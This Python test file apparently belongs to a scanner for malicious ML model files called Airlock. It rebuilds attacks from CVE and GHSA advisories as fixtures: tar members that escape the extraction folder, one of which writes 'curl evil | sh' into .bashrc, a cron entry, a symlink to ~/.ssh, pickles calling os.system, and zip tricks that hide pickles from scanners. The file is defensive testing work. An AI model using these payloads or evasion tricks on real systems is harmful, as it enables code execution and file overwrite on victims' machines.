"""The public anchors of issue 13, each a test named after its advisory or peer test: the CVE and GHSA
write-ups of 2024-2025 for picklescan, Keras, NeMo and ONNX, ReversingLabs' nullifAI models, and the
archive tests of picklescan and modelaudit. Every file is written here from the write-up's description
with the real libraries (tarfile, py7zr, zipfile, onnx.helper, torch.save), never downloaded, never loaded.

Where a peer catches something, Airlock must too (the issue: "that is a defect of this issue"); the benign
twins keep their verdicts.
"""

from __future__ import annotations

import io
import tarfile
import zipfile

import pytest
from fixtures import archive_files as af
from fixtures import keras_files as K
from fixtures import onnx_files as O
from fixtures import torch_files as T

from airlock.core.findings import Severity
from airlock.core.scan import scan_bytes

HOSTILE = af.SYSTEM_PICKLE  # os.system(MARKER), protocol 2


def scan(data: bytes, name: str):
    result = scan_bytes(data, name)
    result.close()
    return result


def rules(result) -> set[str]:
    return {f.rule for f in result.findings}


def _why(result) -> list[tuple[str, str, str]]:
    return [(f.rule, f.severity.label, f.message[:120]) for f in result.findings]


def _onnx_bytes(model) -> bytes:
    return model.SerializeToString()


def _zoo_tar(extra: dict[str, bytes] | None = None, links: dict[str, tuple[bytes, str]] | None = None) -> bytes:
    """An ONNX model-zoo archive as onnx.hub downloads it: model/model.onnx and a test data set."""
    members = {"model/model.onnx": _onnx_bytes(O.matmul()),
               "model/test_data_set_0/input_0.pb": O.weights("x", (1, 2)).SerializeToString()}
    return af.tar({**members, **(extra or {})}, "w:gz", links=links)


# ONNX

def test_cve_2024_5187_onnx_hub_tar_with_a_path_traversal_member():
    """onnx.hub's download_model_with_test_data extracted the model archive with tarfile.extractall and no
    filter: a `../` member overwrites any file the user can write (fixed in onnx 1.16.2)."""
    hostile = scan(_zoo_tar({"../../../.bashrc": b"curl evil | sh\n"}), "mnist.tar.gz")
    escaping = [f for f in hostile.findings if f.rule == "TAR001"]
    assert escaping and "../../../.bashrc" in escaping[0].message and hostile.severity >= Severity.HIGH
    # The same archive with a symbolic link out of the folder, and an absolute member name.
    linked = scan(_zoo_tar(links={"model/data": (tarfile.SYMTYPE, "/home/user/.ssh")}), "mnist.tar.gz")
    assert "TAR001" in rules(linked)
    absolute = scan(_zoo_tar({"/etc/cron.d/job": b"* * * * * root id\n"}), "mnist.tar.gz")
    assert "TAR001" in rules(absolute)
    # The model zoo's own layout is not an attack: the model is read, nothing reaches high.
    benign = scan(_zoo_tar(), "mnist.tar.gz")
    assert benign.severity < Severity.HIGH, _why(benign)
    assert any(n.attrs.get("format") == "onnx" for n in benign.root.walk())


def test_cve_2024_27318_onnx_external_data_outside_the_model_folder():
    """onnx's external-data loader followed `../` in a tensor's location (path traversal, onnx < 1.16)."""
    result = scan(_onnx_bytes(O.external_model("../../../../etc/passwd")), "model.onnx")
    assert "ONX003" in rules(result) and result.severity == Severity.CRITICAL, _why(result)


# NeMo

def test_cve_2025_23304_nemo_hydra_target_runs_a_function_on_restore():
    """NeMo's restore_from instantiated the `_target_` of model_config.yaml with Hydra: any callable ran."""
    result = scan(af.nemo(af.HOSTILE_NEMO_CONFIG), "model.nemo")
    assert result.format == "nemo" and "HYD001" in rules(result) and result.severity == Severity.CRITICAL
    assert scan(af.nemo(), "model.nemo").severity <= Severity.INFO


# Keras

def test_cve_2025_1550_keras_config_imports_an_arbitrary_function():
    """Keras' safe_mode let a .keras config name any module's function (`module` + `class_name`)."""
    result = scan(K.keras_zip(K.hostile_configs()["os_system_function"]), "model.keras")
    assert result.severity == Severity.CRITICAL and "KRS002" in rules(result), _why(result)


def test_cve_2025_8747_keras_get_file_in_a_safe_mode_config():
    """safe_mode did not stop keras.utils.get_file from a config: it downloads and overwrites files."""
    result = scan(K.keras_zip(K.hostile_configs()["keras_get_file"]), "model.keras")
    assert {"KRS002", "KRS007", "KRS008"} <= rules(result) and result.severity == Severity.CRITICAL


def test_cve_2025_49655_keras_torch_module_wrapper_unpickles_its_module():
    """TorchModuleWrapper.from_config torch.load()s its base64 `module`: a pickle in a layer config."""
    blob = K.torch_save_bytes(K._Payload())
    result = scan(K.keras_zip(K.sequential([K.torch_module_wrapper(blob)])), "model.keras")
    assert "KRS006" in rules(result) and result.severity == Severity.CRITICAL, _why(result)


def test_cve_2024_3660_keras_lambda_layer_code():
    """A Lambda layer's marshalled bytecode runs when the model is loaded (Keras < 2.13)."""
    result = scan(K.keras_zip(K.hostile_configs()["lambda_keras3"]), "model.keras")
    assert "KRS001" in rules(result) and result.severity == Severity.CRITICAL


# picklescan's zip advisories: each made picklescan skip or error out on a torch zip torch still loads.

def _torch_zip(payload: bytes = HOSTILE) -> list[T.Member]:
    members = T.zip_members(T.torch_save({"w": __import__("torch").zeros(2)}))
    for m in members:
        if m.name.endswith("/data.pkl"):
            m.data = payload
    return members


def test_cve_2025_1944_zip_local_header_name_differs_from_the_central_directory():
    members = _torch_zip()
    pkl = next(m for m in members if m.name.endswith("/data.pkl"))
    pkl.local_name = pkl.name.replace("data.pkl", "data.pkx")
    result = scan(T.build_zip(members), "model.pt")
    assert "ZIP001" in rules(result) and result.severity == Severity.CRITICAL, _why(result)


def test_cve_2025_1945_zip_flag_bits_hide_the_pickle():
    members = _torch_zip()
    next(m for m in members if m.name.endswith("/data.pkl")).flags = 0x1  # "encrypted": zipfile refuses it
    result = scan(T.build_zip(members), "model.pt")
    assert result.severity >= Severity.HIGH, _why(result)


def test_ghsa_mjqp_26hc_grxg_wrong_crc_on_the_pickle_member():
    """zipfile raises on a bad CRC, so picklescan errored out; torch does not check CRCs and runs it."""
    members = _torch_zip()
    next(m for m in members if m.name.endswith("/data.pkl")).crc = 0x12345678
    result = scan(T.build_zip(members), "model.pt")
    assert "ZIP004" in rules(result) and result.severity == Severity.CRITICAL, _why(result)


def test_cve_2025_1889_pickle_in_a_member_without_a_pickle_extension():
    """picklescan only opened members named *.pkl; torch.load reads whatever data.pkl-like member it is
    pointed at, and a protocol-0 pickle hides anywhere."""
    members = _torch_zip(payload=b"\x80\x02}q\x00.")
    members.append(T.Member(members[0].name.split("/")[0] + "/extra/config.txt", b"cos\nsystem\n(S'id'\ntR."))
    result = scan(T.build_zip(members), "model.pt")
    assert result.severity == Severity.CRITICAL, _why(result)


# ReversingLabs' nullifAI (2025): torch models compressed as 7z, the pickle broken right after the payload.

def test_nullifai_torch_checkpoint_in_7z_with_a_broken_pickle():
    broken = HOSTILE[:-1] + b"\xff"  # the call, then an invalid opcode where STOP should be
    result = scan(af.sevenz(af.torch_checkpoint(broken)), "model.7z")
    assert result.format == "7z" and "PKL006" in rules(result), _why(result)
    assert result.severity == Severity.CRITICAL


# picklescan's and modelaudit's archive tests

def test_picklescan_7z_and_zip_with_a_malicious_pickle():
    assert scan(af.sevenz({"malicious1.pkl": HOSTILE}), "malicious1.7z").severity == Severity.CRITICAL
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("malicious1.pkl", HOSTILE)
        zf.writestr("nested.zip", af.tar({"x.pkl": HOSTILE}))  # an archive inside an archive
    assert scan(buf.getvalue(), "malicious1.zip").severity == Severity.CRITICAL


@pytest.mark.parametrize(("name", "members", "at_least"), [
    # modelaudit tests/assets/generators/generate_7z_test_assets.py
    ("malicious.7z", {"malicious_model.pkl": HOSTILE}, Severity.CRITICAL),
    ("path_traversal.7z", {"XX/XX/XX/dangerous_file.pkl": af.BENIGN_PICKLE}, Severity.HIGH),
])
def test_modelaudit_7z_assets(name, members, at_least):
    data = af.sevenz_renamed(members, {"XX/XX/XX/dangerous_file.pkl": "../../../dangerous_file.pkl"}) \
        if name == "path_traversal.7z" else af.sevenz(members)
    result = scan(data, name)
    assert result.severity >= at_least, _why(result)


def test_modelaudit_7z_mixed_content_stays_below_high():
    data = af.sevenz({"model.pkl": af.BENIGN_PICKLE, "readme.txt": b"This is just a text file.\n",
                      "config.json": b'{"model_type": "test", "version": "1.0"}'})
    result = scan(data, "mixed_content.7z")
    assert result.severity < Severity.MEDIUM and result.inspected == "full", _why(result)


def test_modelaudit_tar_python_member_running_os_system():
    """modelaudit's tar scanner flags a handler.py calling os.system ("Python Archive Member Security");
    Airlock reports the code shipped in the archive (MF003) instead of reading it clean."""
    result = scan(af.tar({"handler.py": b"import os\nos.system('echo hidden')\n"}), "model_bundle.tar")
    assert "MF003" in rules(result) and result.severity >= Severity.MEDIUM, _why(result)


def test_modelaudit_tar_with_a_pickle_member_and_nested_tar():
    result = scan(af.tar({"inner.tar": af.tar({"evil.pkl": HOSTILE}), "readme.txt": b"hi\n"}), "outer.tar")
    assert result.severity == Severity.CRITICAL
    assert any(f.member and f.member.endswith("evil.pkl") for f in result.findings if f.rule == "PKL006")
